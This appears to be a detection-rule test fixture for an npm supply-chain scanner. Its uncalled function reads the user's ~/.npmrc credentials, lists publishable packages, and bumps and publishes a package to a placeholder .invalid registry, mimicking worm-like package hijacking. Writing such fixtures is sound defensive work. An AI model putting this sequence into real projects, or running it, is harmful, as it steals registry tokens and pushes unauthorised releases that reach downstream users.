// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const { execSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');
function never(pkgDir) {
  const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
  const owned = execSync('npm access list packages --json').toString();
  execSync('npm version patch && npm publish --registry https://registry.example.invalid/', { cwd: pkgDir });
  return [npmrc, owned];
}
module.exports = { never };
